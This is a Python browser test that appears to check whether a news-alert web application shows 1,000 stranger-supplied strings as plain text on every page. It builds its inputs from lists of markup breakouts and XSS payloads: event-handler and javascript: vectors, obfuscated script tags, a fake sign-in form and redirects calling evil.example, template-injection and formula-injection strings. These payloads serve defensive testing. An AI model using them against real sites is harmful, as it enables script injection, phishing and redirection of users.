"""A thousand texts that strangers might send, stored and shown in a browser: nothing of them runs, or is markup."""

from datetime import timedelta
from itertools import product

from deliveries import Clock, alert, played
from desks import desk, settings_with_desk

from store.models import Article

#: What gets out of where a text stands, …
ENDS = ["", ">", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</select>", "</svg>"]
ENDS += ["</template>", "<!--", "<!DOCTYPE x>", '" x=', "' x=", "`", "\\", "&#x3c;", "%3C", "\u2028", "{{", "{%"]
#: … and what would then run, or be seen to be something else than text.
ACTS = [
    "<script>console.log('ran')</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=console.log('ran')>",
    "<img/src=`x`onerror=console.log('ran')>",
    "<svg onload=console.log('ran')>",
    "<svg><script>console.log('ran')</script></svg>",
    "<svg><animate onbegin=console.log('ran') attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:console.log(1)'>x</mi></math>",
    "<iframe srcdoc='<script>parent.console.log(1)</script>'></iframe>",
    "<iframe src=javascript:console.log('ran')></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=//evil.example/x.swf>",
    "<body onload=console.log('ran')>",
    "<details open ontoggle=console.log('ran')>x</details>",
    "<input autofocus onfocus=console.log('ran')>",
    "<select onfocus=console.log('ran') autofocus>",
    "<video><source onerror=console.log('ran')></video>",
    "<audio src=x onerror=console.log('ran')>",
    "<marquee onstart=console.log('ran')>x</marquee>",
    "<form action=//evil.example/ method=post><button>Sign in</button></form>",
    "<a href=javascript:console.log('ran')>here</a>",
    "<a href='java\tscript:console.log(1)'>here</a>",
    "<a href=data:text/html,x>here</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';body{display:none}</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=console.log(1)>'>",
    "<p id=news data-newest=1><template id=keys><script>console.log(1)</script></template>",
    "javascript:console.log('ran')",
    "data:text/html;base64,PHNjcmlwdD5jb25zb2xlLmxvZygxKTwvc2NyaXB0Pg==",
    "7*7}}{{config}}{% raise %}${7*7}<%= 7*7 %>#{7*7}",
    "\u202egnp.exe\u202c\u2066x",
    '=HYPERLINK("//evil.example")',
    "\x1b[31mred\x00nul\x07bell",
    "\uff1cscript\uff1econsole.log(1)\uff1c/script\uff1e",
    "&lt;script&gt;console.log(1)&lt;/script&gt;",
    "<script\x0b>console.log('ran')</script\x20>",
    "<<script>script>console.log('ran')<</script>/script>",
    "<xss contenteditable onblur=console.log('ran')>x</xss>",
    "<button popovertarget=x>x</button><xss popover id=x onbeforetoggle=console.log('ran')>",
]
TEXTS = [end + act for end, act in product(ENDS, ACTS)][:1_000]
#: What of a page a template did not write.
STRANGE = """[...document.querySelectorAll('main *, body > *')].filter(e =>
    [...e.attributes].some(a => /^on/i.test(a.name) || a.name === 'style' || /^(java|data)/i.test(a.value)
        && ['href', 'src', 'action', 'srcdoc'].includes(a.name))
    || /^(script|style|iframe|object|embed|base|meta|link|math|video|audio|marquee|img|xss|body)$/i.test(e.localName)
).map(e => e.outerHTML.slice(0, 200))"""
OURS = """[...document.querySelectorAll('script, link, base, meta[http-equiv], img, iframe')]
    .map(e => e.src || e.href || e.outerHTML).filter(a => new URL(a, location.href).origin !== location.origin)"""


def filled(store, now):
    """Store the texts as titles, texts, sources and the names of watches of alerts, three or four to an alert."""
    assert len(TEXTS) == len(set(TEXTS)) == 1_000
    groups = [TEXTS[n : n + 4] for n in range(0, len(TEXTS), 4)]
    for n, (title, text, source, watch) in enumerate(groups):
        hostile = "".join(letter for letter in watch if letter >= " ")[:100]
        alert(store, now - timedelta(seconds=n), played("desk"), title=title.replace("\x00", ""), watch=hostile)
        with store.transaction() as session:
            article = session.get(Article, n + 1)
            article.text, article.source = f"drone {text}".replace("\x00", ""), source.replace("\x00", "")[:100]
            article.language, article.url = "en", f"javascript:console.log({n})" if n % 2 else article.url


def test_a_thousand_texts_of_strangers_stay_texts_on_every_page(sqlite_store, now, visit):
    filled(sqlite_store, now)
    settings = settings_with_desk(sources=[{"name": "one", "url": "https://one.example/"}])
    first = ("/alerts", "/search?q=drone", "/deliveries", "/trends", "/alerts/1", "/stories/2", "/watches")
    shown = set()
    with desk(sqlite_store, settings, Clock(now)) as (here, _):
        page = visit(here.root)
        for path in first:
            while path:
                page.goto(path)
                assert page.evaluate(STRANGE) == [], path
                assert page.evaluate(OURS) == [], path
                shown.update(page.locator("main h2, .alerts a").all_text_contents())
                path = page.evaluate("document.querySelector('[rel=next]')?.getAttribute('href')")
    assert visit.log == []  # neither a word from a script nor a report of what the policy forbade
    assert sum("<" in one for one in shown) > 300
